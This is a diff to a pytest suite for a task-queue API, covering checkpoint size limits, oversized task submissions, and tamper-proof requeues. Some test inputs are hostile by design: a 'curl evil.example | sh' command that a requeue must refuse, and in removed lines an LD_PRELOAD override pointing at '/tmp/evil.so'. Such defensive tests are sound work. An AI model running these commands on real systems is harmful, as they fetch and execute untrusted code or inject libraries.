@@ -123,32 +123,52 @@ def test_failures_are_counted_and_end_in_the_dead_letters(api: Caller) -> None:
 
 
 @pytest.mark.parametrize(
-    "changed",
+    "value",
     [
-        {"command": "curl evil.example | sh"},
-        {"env": {"LD_PRELOAD": "/tmp/evil.so"}},
-        {"budgets": {"retries": 1000}},
-        {"epoch": 10**12},  # PostgreSQL would count up to it when the id is forgotten
-        {"generation": 0},
-        {"counters": {"failures": 0, "preemptions": 0, "ends": 0}},
+        *("a\0b", "x" * 65537, "é" * 32769, "𝄞" * 16385, "\x1dother"),
+        *("\x1djobq files a\n" + "é" * 32769, "\x1djobq files " + "a" * 1025, "\x1djobq files \0"),
     ],
-    ids=lambda changed: str(*changed),
+    ids=lambda value: ascii(value)[1:20],
 )
-def test_a_requeue_raises_counts_and_changes_nothing_else(api: Caller, changed: dict[str, Any]) -> None:
-    """Whoever may settle a task must not make another worker run what nobody pushed (S2), nor run it for ever (S7)."""
+def test_a_checkpoint_that_no_attempt_could_be_given_is_refused(api: Caller, value: str) -> None:
+    """S9: it was saved, and then no attempt could be started."""
+    task_id = api.pushed()
+    receipt = {"receipt": api.claimed()["receipt"]}
+    error = api("PUT", f"/tasks/{task_id}/checkpoint", receipt | {"value": value}, 400)
+    assert code_of(error) == "malformed_request"
+    for good in ("x" * 65536, "\x1djobq files " + "a" * 1000 + "\n" + "é" * 32768):
+        api("PUT", f"/tasks/{task_id}/checkpoint", receipt | {"value": good}, 202)
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"command": "true #" + "x" * 140_000},
+        {"version": 2, "id": "long", "command": "true #" + "x" * 140_000},
+        {"version": 2, "id": "long", "argv": ["true", *["a"] * 240_000]},
+        {"command": "true", "env": {f"a{number}": "" for number in range(2**16 + 1)}},
+    ],
+    ids=lambda fields: str(len(str(fields))),
+)
+def test_what_no_program_can_be_given_is_refused(api: Caller, fields: dict[str, Any]) -> None:
+    """It was queued, and given up after four starts that failed."""
+    error = api("POST", "/tasks", {"tasks": [fields]}, 400)
+    assert code_of(error) in {"malformed_task", "malformed_request"}
+
+
+def test_a_requeue_raises_counts_and_changes_nothing_else(api: Caller) -> None:
+    """Who may settle a task must not make another worker run what nobody pushed (S2), nor run it for ever (S7)."""
     task_id = api.pushed()
     held = api.claimed()
-    counted = {"generation": 1, "counters": {"failures": 1, "preemptions": 0, "ends": 1}}
-    api("PUT", f"/tasks/{task_id}/requeue", {"receipt": held["receipt"], "task": held["task"] | counted}, 202)
-    held = api.claimed()
-    counted = {"generation": 2, "counters": {"failures": 2, "preemptions": 0, "ends": 2}}
-    request = {"receipt": held["receipt"], "task": held["task"] | counted | changed}
-    for _ in range(2):  # a repetition is answered alike (S5)
-        api("PUT", f"/tasks/{task_id}/requeue", request, 202)
-    back = api.claimed()["task"]
-    if changed.keys() <= counted.keys():  # it has lowered them
-        counted["counters"] = held["task"]["counters"] if "counters" in changed else counted["counters"]
-    assert back == held["task"] | counted
+    for counters in ({"failures": 1, "preemptions": 0, "ends": 1}, {"failures": 0, "preemptions": 0, "ends": 2}):
+        request = {"receipt": held["receipt"], "counters": counters}
+        for more in ({"task": held["task"]}, {"command": "curl evil.example | sh"}, {"generation": 9}, {"epoch": 9}):
+            api("PUT", f"/tasks/{task_id}/requeue", request | more, 400)
+        for _ in range(2):  # a repetition is answered alike (S5)
+            api("PUT", f"/tasks/{task_id}/requeue", request, 202)
+        before, held = held["task"], api.claimed()
+        counted = {"failures": 1, "preemptions": 0, "ends": counters["ends"]}  # no count is ever lowered
+        assert held["task"] == before | {"generation": before["generation"] + 1, "counters": counted}
 
 
 def test_a_key_makes_a_push_safe_to_repeat(api: Caller, queue: str, server: HttpServer) -> None:
